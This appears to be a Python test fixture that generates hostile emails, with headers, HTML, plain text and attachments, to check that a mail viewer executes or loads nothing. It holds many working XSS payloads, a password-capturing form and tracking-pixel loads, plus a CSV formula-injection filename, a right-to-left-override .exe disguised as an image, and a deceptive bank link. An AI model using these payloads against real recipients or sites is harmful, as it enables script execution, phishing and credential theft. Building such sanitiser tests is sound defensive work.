"""Mails that try to act in whatever shows them: each trick names a canary's address or would set ``window.RAN``."""

from __future__ import annotations

from base64 import b64encode
from email.header import Header


def hostile_mails(canary: str) -> list[bytes]:
    """One with plain text and a page, one with a page alone."""
    run = f"window.RAN=1;fetch('{canary}/ran')"
    page = f"""<html><head><title>x</title><base href="{canary}/base/"><meta http-equiv="refresh" content="0;url={canary}/refresh">
<link rel="stylesheet" href="{canary}/sheet.css"><style>@import "{canary}/import.css"; body {{ background: url({canary}/css) }}</style>
<script>{run}</script><script src="{canary}/script.js"></script></head>
<body background="{canary}/back" onload="{run}">
<h1>Your mailbox</h1><p onclick="{run}" onmouseover="{run}">Read this</p>
<img src="{canary}/pixel.gif" onerror="{run}" alt="logo"><img srcset="{canary}/set 1x" src=x onerror="{run}">
<a href="javascript:{run}">Confirm here</a> <a href="{canary}/click?u=hanako">https://bank.example/</a>
<svg onload="{run}"><script>{run}</script><image href="{canary}/svg"/><use href="{canary}/use"/></svg>
<iframe src="{canary}/frame" srcdoc="<script>parent.{run}</script>"></iframe><object data="{canary}/object"></object>
<video src="{canary}/video" poster="{canary}/poster" autoplay></video><embed src="{canary}/embed">
<form action="{canary}/form"><input type="password" name="pw" autofocus onfocus="{run}"><button>Go</button></form>
<math><mtext></style><img src=x onerror="{run}"></mtext></math><noscript><p title="</noscript><img src=x onerror={run}>">
</body></html>"""
    subject = f"<script>{run}</script> <img src={canary}/subject onerror={run}> $\\href{{javascript:{run}}}{{x}}$"
    name = f"<svg onload={run}>\u202e<b>![x]({canary}/markdown)</b>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script></svg>'
    files = [
        ("=cmd|' /C calc'!A0.csv", "text/csv", "=HYPERLINK()"),
        ("\u202egpj.exe", "image/jpeg", "MZ"),
        (f"<img src={canary}/file onerror={run}>.svg", "image/svg+xml", svg),
    ]
    head = (
        f"Received: from x (x [203.0.113.9]) by mx.example.org; Tue, 3 Mar 2026 09:00:00 +0900\r\n"
        f"Subject: {Header(subject, 'utf-8').encode()}\r\nFrom: {Header(name, 'utf-8').encode()} <a@evil.example>\r\n"
        f"To: <hanako@example.org>\r\nDate: Tue, 3 Mar 2026 09:00:00 +0900\r\nMIME-Version: 1.0\r\n"
    )
    html = f"Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n{_coded(page)}\r\n"
    plain = (
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{_coded(f'<script>{run}</script> {canary}/text javascript:{run} [x](javascript:{run}) ![x]({canary}/md)')}\r\n"
    )
    parts = [plain, html, *(
        f"Content-Type: {kind}\r\nContent-Disposition: attachment; filename=\"{Header(title, 'utf-8').encode()}\"\r\n"
        f"Content-Transfer-Encoding: base64\r\n\r\n{_coded(body)}\r\n"
        for title, kind, body in files
    )]  # fmt: skip
    mixed = (
        'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
        + "".join(f"--b\r\n{part}" for part in parts)
        + "--b--\r\n"
    )
    return [(head + mixed).encode(), (head + html).encode()]


def _coded(text: str) -> str:
    return b64encode(text.encode()).decode()
